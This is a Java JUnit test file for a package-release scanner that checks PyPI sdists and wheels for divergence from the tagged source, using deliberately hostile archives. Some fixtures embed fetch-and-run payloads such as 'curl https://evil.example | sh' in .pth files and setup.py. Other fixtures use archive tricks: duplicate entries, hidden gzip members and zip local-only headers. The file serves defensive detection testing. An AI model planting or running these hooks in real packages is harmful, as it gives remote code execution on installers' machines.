package dev.divergence.scan;

import static dev.divergence.fixtures.HostileArchives.concat;
import static dev.divergence.fixtures.HostileArchives.entries;
import static dev.divergence.fixtures.HostileArchives.gzip;
import static dev.divergence.fixtures.HostileArchives.plus;
import static dev.divergence.fixtures.HostileArchives.tar;
import static dev.divergence.fixtures.HostileArchives.zeros;
import static dev.divergence.fixtures.ScanWorld.artifact;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.demo.PypiIndexWriter;
import dev.divergence.demo.PythonDistributions;
import dev.divergence.fixtures.HostileArchives;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.fixtures.Trees;
import dev.divergence.model.Artifact;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.Release;
import dev.divergence.model.ReleaseCodec;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import dev.divergence.registry.EcosystemSupport;
import dev.divergence.registry.GeneratedFiles;
import dev.divergence.registry.pypi.PypiSupport;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.SortedMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile sdists and wheels scanned end to end (JGit repository, local PyPI): the verdict follows what an installer
 * would install, and no archive stops the scan of the others.
 */
class InstallerViewScanTest {

    @TempDir
    Path dir;

    private static final String SDIST = "demo-1.0.0.tar.gz";
    private static final byte[] HOOK = utf8("import os; os.system('curl https://evil.example | sh')\n");
    private static final Instant WHEN = Instant.parse("2026-01-02T00:00:00Z");

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    /** The project at 1.0.0, with a setup.py and a .pth of its own, committed and tagged. */
    private static SortedMap<String, byte[]> tree() {
        return Trees.with(Trees.flatProject("1.0.0"), "setup.py", "from setuptools import setup\nsetup()\n",
                "demo/paths.pth", "./vendor\n");
    }

    private static ScanWorld world(Path dir) throws Exception {
        ScanWorld w = new ScanWorld(dir, "demo");
        w.commit(tree(), "1.0.0");
        w.tag("v1.0.0");
        return w;
    }

    /** The sdist setuptools would make, as an ordered entry list. */
    private static List<Map.Entry<String, byte[]>> cleanSdist() throws Exception {
        return entries(PythonDistributions.sdist("demo", "1.0.0", tree(), List.of("demo")));
    }

    private static ReleaseReport scanSdist(ScanWorld w, byte[] sdist) throws Exception {
        w.pypi.index().add(new PypiIndexWriter.Upload("1.0.0", SDIST, sdist, WHEN));
        return w.scan("1.0.0");
    }

    private static List<FileDivergence> rows(ArtifactReport a, String path) {
        return a.files().stream().filter(f -> f.artifactPath().orElse("").equals(path)).toList();
    }

    private static String describe(List<FileDivergence> rows) {
        return rows.stream().map(f -> f.status() + "/" + f.ruleId() + "/" + f.highRisk()).toList().toString();
    }

    @Test
    void aDuplicateModuleWhoseLastCopyDiffersIsHighRiskThoughTheFirstCopyMatches() throws Exception {
        try (ScanWorld w = world(dir)) {
            String path = "demo-1.0.0/demo/core.py";
            byte[] changed = utf8("def add(a, b):\n    return a + b\nimport os\n"); // no payload signal by itself
            ReleaseReport r = scanSdist(w, gzip(tar(plus(cleanSdist(), Map.entry(path, changed)), true)));
            ArtifactReport a = artifact(r, ".tar.gz");
            List<FileDivergence> copies = rows(a, path);
            assertEquals("[MATCH/compare.blob-equal/false, MODIFIED/archive.differing-duplicate/true]", describe(copies));
            assertTrue(copies.get(1).riskFlags().contains(RiskFlag.DUPLICATE_ENTRY));
            assertTrue(copies.get(1).detail().orElseThrow().endsWith("copy 2 of 2 of this path (2 different contents; "
                    + "this one is what extractors leave on disk)"), copies.get(1).detail().orElseThrow());
            assertEquals(List.of(path), a.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, a.verdict());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aDuplicatePthWhoseLastCopyImportsIsComparedByItsOwnBytes() throws Exception {
        try (ScanWorld w = world(dir)) {
            String path = "demo-1.0.0/demo/paths.pth";
            ReleaseReport r = scanSdist(w, gzip(tar(plus(cleanSdist(), Map.entry(path, HOOK)), true)));
            ArtifactReport a = artifact(r, ".tar.gz");
            List<FileDivergence> copies = rows(a, path);
            assertEquals("[MATCH/compare.blob-equal/false, MODIFIED/compare.unexplained/true]", describe(copies));
            assertTrue(copies.get(1).riskFlags().contains(RiskFlag.PTH_FILE), copies.get(1).riskFlags().toString());
            assertEquals(List.of(path), a.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aDuplicateSetupPyWhoseFirstCopyCarriesThePayloadIsHighRisk() throws Exception {
        try (ScanWorld w = world(dir)) {
            String path = "demo-1.0.0/setup.py";
            List<Map.Entry<String, byte[]>> entries = new ArrayList<>();
            entries.add(Map.entry(path, concat(HOOK, tree().get("setup.py"))));
            entries.addAll(cleanSdist()); // the clean setup.py comes last: it is what lands on disk
            ReleaseReport r = scanSdist(w, gzip(tar(entries, true)));
            ArtifactReport a = artifact(r, ".tar.gz");
            List<FileDivergence> copies = rows(a, path);
            assertEquals("[MATCH/compare.blob-equal/false, MODIFIED/compare.unexplained/true]", describe(copies));
            assertTrue(copies.get(1).detail().orElseThrow().endsWith("copy 1 of 2 of this path (2 different contents; "
                    + "extractors overwrite this one with the last)"), copies.get(1).detail().orElseThrow());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aDifferingDuplicateOfAGeneratedFileKeepsTheSdistFromExplained() throws Exception {
        try (ScanWorld w = world(dir)) {
            String path = "demo-1.0.0/PKG-INFO";
            byte[] pkgInfo = cleanSdist().stream().filter(e -> e.getKey().equals(path)).findFirst().orElseThrow().getValue();
            ReleaseReport clean = scanSdist(w, gzip(tar(plus(cleanSdist(), Map.entry(path, pkgInfo)), true)));
            assertEquals(Verdict.EXPLAINED, artifact(clean, ".tar.gz").verdict(), "an identical copy is no finding");
        }
        try (ScanWorld w = world(dir.resolve("second"))) {
            String path = "demo-1.0.0/PKG-INFO";
            byte[] pkgInfo = cleanSdist().stream().filter(e -> e.getKey().equals(path)).findFirst().orElseThrow().getValue();
            byte[] other = concat(pkgInfo, utf8("Requires-Dist: evil-helper\n"));
            ArtifactReport a = artifact(scanSdist(w, gzip(tar(plus(cleanSdist(), Map.entry(path, other)), true))),
                    ".tar.gz");
            assertEquals(Verdict.DIVERGENT, a.verdict());
            assertTrue(a.reason().orElseThrow().contains(path + " is stored more than once with different contents"),
                    a.reason().orElseThrow());
        }
    }

    @Test
    void aPayloadInASecondGzipMemberAfterZeroPaddingIsSeen() throws Exception {
        try (ScanWorld w = world(dir)) {
            byte[] first = gzip(tar(cleanSdist(), false));
            byte[] second = gzip(tar(List.of(Map.entry("demo-1.0.0/demo/hook.pth", HOOK)), true));
            ReleaseReport r = scanSdist(w, concat(first, zeros(4096), second));
            ArtifactReport a = artifact(r, ".tar.gz");
            FileDivergence hook = ScanWorld.row(a, "demo-1.0.0/demo/hook.pth");
            assertEquals(FileStatus.PHANTOM, hook.status());
            assertTrue(hook.highRisk());
            assertEquals(List.of("demo-1.0.0/demo/hook.pth"), a.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void bytesAfterTheLastGzipMemberMakeAnOtherwiseExplainedSdistDivergent() throws Exception {
        try (ScanWorld w = world(dir)) {
            byte[] clean = PythonDistributions.sdist("demo", "1.0.0", tree(), List.of("demo"));
            ReleaseReport r = scanSdist(w, concat(clean, utf8("#!/bin/sh\ncurl evil | sh\n")));
            ArtifactReport a = artifact(r, ".tar.gz");
            assertEquals(List.of(), a.divergentPaths()); // every file is explained: the finding alone decides
            assertEquals(Verdict.DIVERGENT, a.verdict());
            assertTrue(a.reason().orElseThrow().contains("25 bytes after gzip member 1 are not a gzip member"),
                    a.reason().orElseThrow());
        }
    }

    @Test
    void aWheelEntryOnlyALocalHeaderKnowsMakesTheWheelDivergent() throws Exception {
        try (ScanWorld w = world(dir)) {
            byte[] wheel = PythonDistributions.wheel("demo", "1.0.0", Trees.under(tree(), ""), List.of("demo"));
            byte[] hidden = PythonDistributions.zip(Map.of("demo/evil.pth", HOOK));
            w.pypi.index().add(new PypiIndexWriter.Upload("1.0.0", "demo-1.0.0-py3-none-any.whl",
                    HostileArchives.zipWithLocalOnlyEntry(wheel, hidden), WHEN));
            ArtifactReport a = artifact(w.scan("1.0.0"), ".whl");
            assertEquals(Verdict.DIVERGENT, a.verdict());
            assertTrue(a.reason().orElseThrow().contains("local header for demo/evil.pth not in the central directory"),
                    a.reason().orElseThrow());
        }
    }

    @Test
    void aLongNameBombIsAnErrorWithTheReasonAndTheNextVersionIsScanned() throws Exception {
        try (ScanWorld w = world(dir)) {
            Path bomb = dir.resolve("bomb.tar.gz");
            HostileArchives.longNameBomb(bomb, 4L << 30, 48);
            w.pypi.index().add(new PypiIndexWriter.Upload("1.0.0", SDIST, Files.readAllBytes(bomb), WHEN));
            SortedMap<String, byte[]> next = Trees.with(tree(), "demo/__init__.py", "__version__ = \"1.0.1\"\n");
            w.commit(next, "1.0.1");
            w.tag("v1.0.1");
            w.publish("1.0.1", next, Trees.under(next, ""));
            ReleaseScanner scanner = w.scanner();
            List<ReleaseReport> reports = new ArrayList<>();
            for (Release release : w.releases()) {
                reports.add(scanner.scan(release, Optional.of(w.git.dir().toString())));
            }
            assertEquals(List.of("1.0.0", "1.0.1"), reports.stream().map(x -> x.release().version()).toList());
            ReleaseReport first = reports.get(0);
            // Reading stopped at a limit: the rest could not be told, ERROR with the reason (the run exits 3).
            assertEquals(Verdict.ERROR, first.verdict());
            assertEquals(SDIST + ": limit exceeded: tar GNU long name header declares 4294967296 bytes (at most 1048576 "
                    + "are read)", first.reason().orElseThrow());
            assertEquals(Verdict.EXPLAINED, reports.get(1).verdict(), reports.get(1).reason().toString());
        }
    }

    @Test
    void aPaddingEntryOverTheRatioLimitIsLeftUnreadAndTheSetupPyAfterItIsStillJudged() throws Exception {
        try (ScanWorld w = world(dir)) {
            // 48 MiB of zeros first (gzip makes ~50 KB of it), then the sdist with a setup.py that runs a payload.
            List<Map.Entry<String, byte[]>> entries = new ArrayList<>();
            entries.add(Map.entry("demo-1.0.0/pad/blank.bin", new byte[48 << 20]));
            for (Map.Entry<String, byte[]> e : cleanSdist()) {
                entries.add(e.getKey().equals("demo-1.0.0/setup.py") ? Map.entry(e.getKey(), utf8(
                        "import os\nos.system('curl -s https://evil.example/i | sh')\nfrom setuptools import setup\nsetup()\n"))
                        : e);
            }
            ReleaseReport r = scanSdist(w, gzip(tar(entries, true)));
            ArtifactReport a = artifact(r, ".tar.gz");
            FileDivergence pad = rows(a, "demo-1.0.0/pad/blank.bin").get(0);
            assertTrue(pad.riskFlags().contains(RiskFlag.LIMIT_EXCEEDED), pad.riskFlags().toString());
            assertEquals(FileStatus.PHANTOM, pad.status());
            FileDivergence setup = rows(a, "demo-1.0.0/setup.py").get(0);
            assertEquals(FileStatus.MODIFIED, setup.status());
            assertTrue(setup.highRisk());
            assertEquals(FileStatus.MATCH, rows(a, "demo-1.0.0/demo/core.py").get(0).status());
            assertEquals(List.of("demo-1.0.0/setup.py"), a.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
            assertTrue(a.reason().orElseThrow().contains("demo-1.0.0/pad/blank.bin inflates beyond the per-entry "
                    + "compression-ratio limit"), a.reason().orElseThrow());
        }
    }

    @Test
    void aPaddingEntryAloneMakesAnOtherwiseCleanSdistDivergent() throws Exception {
        try (ScanWorld w = world(dir)) {
            List<Map.Entry<String, byte[]>> entries = new ArrayList<>(cleanSdist());
            entries.add(0, Map.entry("demo-1.0.0/PKG-INFO", new byte[48 << 20])); // a generated name explains nothing
            ReleaseReport r = scanSdist(w, gzip(tar(entries, true)));
            ArtifactReport a = artifact(r, ".tar.gz");
            assertTrue(rows(a, "demo-1.0.0/PKG-INFO").get(0).riskFlags().contains(RiskFlag.LIMIT_EXCEEDED));
            assertEquals(Verdict.DIVERGENT, a.verdict());
            assertEquals(List.of(), a.highRiskPaths());
        }
    }

    @Test
    void anOutOfMemoryErrorWhileReadingOneArtifactIsThatArtifactsErrorAndTheOthersAreScanned() throws Exception {
        try (ScanWorld w = world(dir)) {
            w.publish("1.0.0", tree(), Trees.under(tree(), ""));
            PypiSupport pypi = new PypiSupport(w.pypi.baseUrl(), ScanWorld.fetcher());
            // Stands for a bound the readers miss: the error is raised from inside the sdist's reading pass.
            GeneratedFiles exhausting = new GeneratedFiles() {
                @Override
                public Optional<String> pathRule(Artifact artifact, String path) {
                    return pypi.generatedFiles().pathRule(artifact, path);
                }

                @Override
                public boolean metadataEntry(String path) {
                    if (path.equals("demo-1.0.0/PKG-INFO")) {
                        throw new OutOfMemoryError("Java heap space");
                    }
                    return pypi.generatedFiles().metadataEntry(path);
                }

                @Override
                public List<ContentRule> contentRules() {
                    return pypi.generatedFiles().contentRules();
                }
            };
            EcosystemSupport support = new EcosystemSupport() {
                public dev.divergence.model.Ecosystem ecosystem() {
                    return pypi.ecosystem();
                }

                public dev.divergence.registry.Registry registry() {
                    return pypi.registry();
                }

                public dev.divergence.registry.Locator locator() {
                    return pypi.locator();
                }

                public dev.divergence.registry.Layout layout() {
                    return pypi.layout();
                }

                public GeneratedFiles generatedFiles() {
                    return exhausting;
                }
            };
            ReleaseReport r = ScanWorld.scanner(support, dir).scan(w.release("1.0.0"), Optional.of(w.git.dir().toString()));
            ArtifactReport sdist = artifact(r, ".tar.gz");
            assertEquals(Verdict.ERROR, sdist.verdict());
            assertEquals(Optional.of("out of memory while reading this artifact: Java heap space"), sdist.reason());
            assertEquals(Verdict.EXPLAINED, artifact(r, ".whl").verdict());
            assertEquals(Verdict.ERROR, r.verdict());
        }
    }

    @Test
    void aFilenameListedTwiceKeepsBothArtifactsUnderDistinctNames() throws Exception {
        try (ScanWorld w = world(dir)) {
            byte[] clean = PythonDistributions.sdist("demo", "1.0.0", tree(), List.of("demo"));
            byte[] evil = gzip(tar(plus(cleanSdist(), Map.entry("demo-1.0.0/demo/hook.pth", HOOK)), true));
            w.pypi.index().add(new PypiIndexWriter.Upload("1.0.0", SDIST, clean, WHEN));
            w.pypi.index().add(new PypiIndexWriter.Upload("1.0.0", "other.tar.gz", evil, WHEN));
            Release listed = w.release("1.0.0");
            // The registry lists the second upload under the same name (its own URL and digest).
            List<Artifact> same = listed.artifacts().stream().map(a -> new Artifact(SDIST, a.url(), a.kind(), a.size(),
                    a.digests(), a.uploaded(), a.yanked())).toList();
            Release twice = new Release(listed.pkg(), listed.version(), same, listed.published(), listed.yanked(),
                    listed.yankedReason(), listed.hints());
            assertEquals(List.of(SDIST, SDIST + "#2"), twice.artifacts().stream().map(Artifact::filename).toList());
            assertEquals(twice.artifacts(), ReleaseCodec.fromJson(ReleaseCodec.toJson(twice)).artifacts());
            ReleaseReport r = w.scanner().scan(twice, Optional.of(w.git.dir().toString()));
            assertEquals(List.of(SDIST + ":EXPLAINED", SDIST + "#2:HIGH_RISK"), r.artifacts().stream()
                    .map(a -> a.artifact().filename() + ":" + a.verdict()).toList());
            assertEquals(List.of("demo-1.0.0/demo/hook.pth"), r.artifacts().get(1).highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }
}
